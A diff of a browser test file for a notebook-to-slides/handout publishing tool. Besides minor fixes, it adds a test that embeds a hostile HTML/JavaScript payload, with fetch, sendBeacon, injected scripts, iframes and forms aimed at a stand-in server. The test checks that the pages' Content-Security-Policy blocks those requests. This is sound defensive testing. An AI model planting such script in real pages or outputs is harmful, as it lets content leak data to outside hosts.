@@ -2,11 +2,13 @@
 
 import json
 from functools import lru_cache
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from importlib.resources import files
+from threading import Thread
 
 import pytest
 
-from helpers.publishing import handout, slides
+from helpers.publishing import handout, pages, slides
 from helpers.publishing.notebooks import ROOT
 from helpers.publishing.slide_plan import mark
 from helpers.widgets.registry import VIEWS
@@ -14,7 +16,9 @@ from tests.browser.conftest import Visit, end_tour, is_ready
 from tests.browser.test_views import DRAWN
 
 NAMES = ("00_start_here", "07_self_attention", "10_decoder_and_gpt")
-READY = "[...document.querySelectorAll('[data-view]')].every(h => h.dataset.ready)"
+READY = (
+    "() => [...document.querySelectorAll('[data-view]')].every(h => h.dataset.ready)"
+)
 # the views of the slide have painted, and the deck has chosen their size
 SETTLED = """() => [...Reveal.getCurrentSlide().querySelectorAll("[data-view]")].every(
   h => h.dataset.error || (h.dataset.ready && (h.dataset.deck || !h.shadowRoot)))"""
@@ -136,8 +140,10 @@ def test_the_speaker_sees_the_time_plan_and_the_room_the_theme(visit):
     with page.expect_popup() as speaker:
         page.keyboard.press("s")
     speaker.value.get_by_text("Time plan: 45 minutes").wait_for()
+    frame = speaker.value.frame_locator("#current-slide iframe")
+    frame.locator("section.present h1").wait_for()
     speaker.value.keyboard.press("ArrowRight")
-    page.wait_for_function("Reveal.getSlidePastCount() === 1")
+    page.wait_for_function("() => Reveal.getSlidePastCount() === 1")
     assert visited.left() == []
 
 
@@ -171,6 +177,80 @@ def test_the_book_works_offline(viewing, visit):
     assert page.url.endswith("#00_start_here.the-surprise")
     assert visited.left() == [] and len(visited.requests) == 1
     assert visited.errors == []
+
+
+# What a hostile output would try, of a server that writes down what it is asked.
+HOSTILE = """<img data-view="none" src="SERVER/image"><script>
+fetch("SERVER/fetch").catch(() => document.body.dataset.fetch = "refused");
+document.head.innerHTML += '<link rel=stylesheet href="SERVER/style">';
+const made = (tag, given) => document.body.append(
+  Object.assign(document.createElement(tag), given));
+made("script", {src: "SERVER/script"});
+made("iframe", {src: "SERVER/frame"});
+made("form", {action: "SERVER/form", id: "hostile"});
+made("video", {src: "SERVER/video"});
+made("object", {data: "SERVER/object"});
+navigator.sendBeacon("SERVER/beacon");
+document.body.dataset.ran = "yes";
+</script>"""
+
+
+SUBMIT = """() => new Promise(done => {
+  const refused = e => done(e.effectiveDirective);
+  document.addEventListener("securitypolicyviolation", refused);
+  document.getElementById("hostile").submit();
+})"""
+
+
+@pytest.fixture
+def asked():
+    """A server of this computer; yields its address, and the paths it was asked for."""
+    paths = []
+
+    class Listener(BaseHTTPRequestHandler):
+        def do_GET(self):
+            paths.append(self.path.strip("/?"))
+            self.send_response(204)
+            self.end_headers()
+
+        do_POST = do_GET
+
+        def log_message(self, *said):
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Listener)
+    Thread(target=server.serve_forever, daemon=True).start()
+    yield f"http://127.0.0.1:{server.server_port}", paths
+    server.shutdown()
+    server.server_close()
+
+
+MADE = {
+    "deck": lambda nb: slides.deck(nb)[0],
+    "book": lambda nb: handout.book([("01_a", nb)]),
+}
+
+
+@pytest.mark.parametrize("kind", MADE)
+def test_a_page_asks_nobody_whatever_an_output_tries(kind, visit, asked):
+    address, paths = asked
+    data = {"text/html": HOSTILE.replace("SERVER", address)}
+    output = {"output_type": "display_data", "data": data}
+    code = {"cell_type": "code", "metadata": {}, "source": "x", "outputs": [output]}
+    title = {"cell_type": "markdown", "metadata": {}, "source": "# 1 · A $x^2$"}
+    html = MADE[kind]({"cells": [title, code], "metadata": {}})
+    page = visit(html).page
+    page.wait_for_function("() => document.body.dataset.fetch === 'refused'")
+    assert page.evaluate("document.body.dataset.ran") == "yes"
+    assert page.locator("math").count() > 0
+    assert page.evaluate(SUBMIT) == "form-action"
+    assert paths == [] and page.url.startswith("file:")
+    policy = f'<meta http-equiv="Content-Security-Policy" content="{pages.POLICY}">'
+    assert html.count(policy) == 1
+    page = visit(html.replace(policy, "")).page  # the server is there, and hears it
+    page.wait_for_function("() => document.body.dataset.ran === 'yes'")
+    page.wait_for_load_state("networkidle")
+    assert {"image", "fetch", "script", "frame", "beacon"} <= set(paths)
 
 
 CHAPTERS = sorted((ROOT / "notebooks").glob("*.ipynb"))  # links may lead to any
